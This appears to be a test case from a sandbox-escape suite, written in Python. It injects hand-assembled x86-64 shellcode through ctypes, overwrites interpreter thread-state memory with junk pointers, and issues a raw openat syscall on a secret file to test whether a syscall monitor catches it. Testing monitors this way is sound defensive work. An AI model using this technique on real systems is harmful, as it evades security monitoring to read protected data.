# SPDX-License-Identifier: Apache-2.0
# attack: the interpreter's frames are overwritten with rubbish, loops and wild pointers before a refused call
# class: log
# wins: log
# native: n/a: there is no stack reader without proctor
from kit import *

import random
tried()
rnd = random.Random(1)
api = ctypes.pythonapi
api.PyThreadState_Get.restype = ctypes.c_void_p
raw = function(RAW, ctypes.c_void_p, ctypes.c_long)
path = ctypes.create_string_buffer(os.fsencode(SECRET))
table = (ctypes.c_long * 7)(NR['openat'], AT_FDCWD, address(path), 0, 0)
ts = api.PyThreadState_Get()
save, junk = ctypes.create_string_buffer(512), ctypes.create_string_buffer(512)
# f(target, junk, table, save): n bytes are saved, overwritten with rubbish, put back after the call
for round_ in range(40):
    n = rnd.choice((8, 16, 64, 120))
    words = [rnd.choice((0, 1, ts, ts + 8, 2 ** 63, 2 ** 64 - 8, 0x100000, 0x7fffffffe000, rnd.getrandbits(64), rnd.getrandbits(47) & ~7)) for _ in range(64)]
    ctypes.memmove(junk, struct.pack('<64Q', *words), 512)
    target = ts + rnd.choice((0, 32, 48, 56, 64, 72, 80)) if round_ % 2 else ctypes.c_uint64.from_address(ts + 56).value
    if not target or target > 1 << 47:
        continue
    body = ('4154' '4155' '53' '4989fc' '4989f5' '4889d3' '4c89e6' '4889cf' 'b9%02x000000' 'fc' 'f3a4' '4989fa' '4c89ee' '4c89e7' 'b9%02x000000' 'f3a4'
            '488b03' '488b7b08' '488b7310' '488b5318' '4152' '4c8b5320' '0f05' '415a' '4c89d6' '4883ee%02x' '4c89e7' 'b9%02x000000' 'fc' 'f3a4'
            '5b' '415d' '415c' 'c3') % (n, n, n, n)
    # PYFUNCTYPE keeps the interpreter's lock: nobody else looks at the frames meanwhile
    call = ctypes.PYFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(code(body))
    try:
        ctypes.string_at(target, n)
        call(target, address(junk), address(table), address(save))
    except (ValueError, OSError):
        pass
say('SURVIVED')
